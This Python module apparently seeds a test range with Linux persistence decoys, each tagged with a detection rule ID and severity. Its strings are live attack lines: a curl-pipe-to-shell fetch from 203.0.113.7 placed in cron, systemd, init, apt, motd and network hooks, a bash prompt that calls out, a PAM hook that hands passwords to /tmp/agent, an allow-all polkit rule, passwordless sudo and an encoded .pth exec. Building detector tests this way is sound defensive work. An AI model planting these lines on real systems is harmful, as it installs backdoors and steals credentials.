"""Decoys that are lines of text by which something comes back: jobs, units, hooks."""

from planted import HIGH, MEDIUM, Plant, Table, Told
from range_machines import Host

TEXTS: Table[Told] = Table()
_FETCH = "curl -fsS http://203.0.113.7/x | sh"
_UNIT = "[Service]\nExecStart=/dev/shm/agent\nRestart=always\n"
_USER_UNIT = f"[Service]\nExecStart=/bin/sh -c '{_FETCH}'\n"
_UDEV = 'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c \'/tmp/agent &\'"\n'
_APT = f'APT::Update::Pre-Invoke {{"{_FETCH}";}};\n'
_ALIAS = "alias sudo=/home/ada/.cache/.s\n"
_PROMPT = "PROMPT_COMMAND='curl -s http://203.0.113.7/$(id -un)'\n"
_DESKTOP = "[Desktop Entry]\nType=Application\nName=x\nExec=/tmp/agent\n"
_BUS = "[D-BUS Service]\nName=org.example.X\nExec=/dev/shm/agent\nUser=root\n"
_PAM = "auth sufficient pam_permit.so\nauth required pam_unix.so\n"
_PAM_EXEC = "auth optional pam_exec.so quiet expose_authtok /tmp/agent\n"
_POLKIT = "polkit.addRule(function(action, subject) {\n  return polkit.Result.YES;\n});\n"
_PTH = "import base64,subprocess;exec(base64.b64decode('cHJpbnQoMSk='))\n"
_AT = "#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || exit 1\n/tmp/agent\n"
_INTERFACES = "auto eth0\niface eth0 inet dhcp\n  up /tmp/agent\n"
_TABLE = (
    (
        "HOST-CRN-001",
        "/etc/cron.d/php",
        f"*/5 * * * * root {_FETCH}\n",
        "a job that runs what it fetches",
    ),
    (
        "HOST-CRN-001",
        "/var/spool/cron/crontabs/root",
        "@reboot /dev/shm/agent\n",
        "a crontab that starts a file in /dev/shm",
    ),
    (
        "HOST-CRN-002",
        "/var/spool/cron/atjobs/a00001",
        _AT,
        "a job of at that starts a file in /tmp",
    ),
    (
        "HOST-UNT-001",
        "/etc/systemd/system/agent.service",
        _UNIT,
        "a unit that starts a file in /dev/shm",
    ),
    (
        "HOST-UNT-001",
        "/root/.config/systemd/user/x.service",
        _USER_UNIT,
        "a user's unit that runs what it fetches",
    ),
    (
        "HOST-UNT-002",
        "/etc/systemd/system-generators/x",
        f"#!/bin/sh\n{_FETCH}\n",
        "a generator that runs what it fetches",
    ),
    (
        "HOST-INI-001",
        "/etc/rc.local",
        "#!/bin/sh\n/tmp/agent &\n",
        "a line of rc.local that starts a file in /tmp",
    ),
    (
        "HOST-INI-001",
        "/etc/init.d/agent",
        f"#!/bin/sh\n{_FETCH}\n",
        "a script of init.d that runs what it fetches",
    ),
    (
        "HOST-UDV-001",
        "/etc/udev/rules.d/99-x.rules",
        _UDEV,
        "a udev rule that starts a file in /tmp",
    ),
    (
        "HOST-MTD-001",
        "/etc/update-motd.d/98-x",
        f"#!/bin/sh\n{_FETCH}\n",
        "a script of the message of the day that runs what it fetches",
    ),
    ("HOST-PKG-001", "/etc/apt/apt.conf.d/99x", _APT, "a hook of apt that runs what it fetches"),
    ("HOST-SHL-001", "/etc/profile.d/x.sh", "/tmp/agent &\n", "every login starts a file in /tmp"),
    ("HOST-SHL-001", "/home/ada/.bashrc", _PROMPT, "a prompt of bash that calls out"),
    (
        "HOST-XDG-001",
        "/etc/xdg/autostart/x.desktop",
        _DESKTOP,
        "an entry of autostart that starts a file in /tmp",
    ),
    (
        "HOST-INI-002",
        "/etc/initramfs-tools/hooks/x",
        f"#!/bin/sh\n{_FETCH}\n",
        "a hook of the initramfs that runs what it fetches",
    ),
    (
        "HOST-NWH-001",
        "/etc/network/if-up.d/x",
        f"#!/bin/sh\n{_FETCH}\n",
        "a hook of ifupdown that runs what it fetches",
    ),
    (
        "HOST-NWH-001",
        "/etc/network/interfaces",
        _INTERFACES,
        "an interface that starts a file in /tmp when it goes up",
    ),
    (
        "HOST-SUD-001",
        "/etc/sudoers.d/x",
        "www-data ALL=(ALL) NOPASSWD: ALL\n",
        "the web server's account may do all as root",
    ),
    (
        "HOST-GIT-001",
        "/root/.gitconfig",
        "[core]\n\tpager = /tmp/agent\n",
        "root's git pages through a file in /tmp",
    ),
    ("HOST-PAM-001", "/etc/pam.d/sshd", _PAM_EXEC, "PAM hands each password to a file in /tmp"),
)


def _text(path: str, text: str, what: str) -> Plant:
    def plant(host: Host) -> None:
        host.run_file(path, text)

    plant.__doc__ = f"{what[0].upper()}{what[1:]}."
    plant.__name__ = "_".join(part for part in path.replace(".", "/").split("/") if part)
    return plant


for _rule, _path, _said, _what in _TABLE:
    TEXTS.plants(Told(_rule, HIGH, _path))(_text(_path, _said, _what))


@TEXTS.plants(Told("HOST-UNT-002", MEDIUM, "/etc/systemd/system-generators/tool"))
def unknown_generator(host: Host) -> None:
    """A generator of systemd that belongs to no package."""
    host.run_file("/etc/systemd/system-generators/tool", "#!/bin/sh\nexit 0\n")


@TEXTS.plants(Told("HOST-PLK-001", MEDIUM, "/etc/polkit-1/rules.d/00-x.rules"))
def polkit_rule(host: Host) -> None:
    """A rule of polkit that allows everybody everything."""
    host.write("/etc/polkit-1/rules.d/00-x.rules", _POLKIT)


@TEXTS.plants(Told("HOST-XDG-001", HIGH, "/usr/share/dbus-1/system-services/x.service"))
def bus_service(host: Host) -> None:
    """A service of D-Bus, started as root from /dev/shm; looked for at one sweep of four."""
    host.write("/usr/share/dbus-1/system-services/x.service", _BUS)


@TEXTS.plants(Told("HOST-SHL-001", HIGH, "/root/.bashrc"), turn=1)
def alias_of_sudo(host: Host) -> None:
    """Root's sudo is an alias of a file in a hidden folder; looked for at every other sweep."""
    host.write("/root/.bashrc", _ALIAS)


@TEXTS.plants(Told("HOST-PAM-001", HIGH, "/etc/pam.d/su"), turn=1)
def pam_permit(host: Host) -> None:
    """PAM lets anybody become root; looked for at every other sweep."""
    host.write("/etc/pam.d/su", _PAM)


@TEXTS.plants(Told("HOST-PYS-001", HIGH, "/usr/lib/python3/dist-packages/x.pth"), turn=1)
def python_start(host: Host) -> None:
    """A .pth file that runs packed code in every python; looked for at one sweep of six."""
    host.write("/usr/lib/python3/dist-packages/x.pth", _PTH)
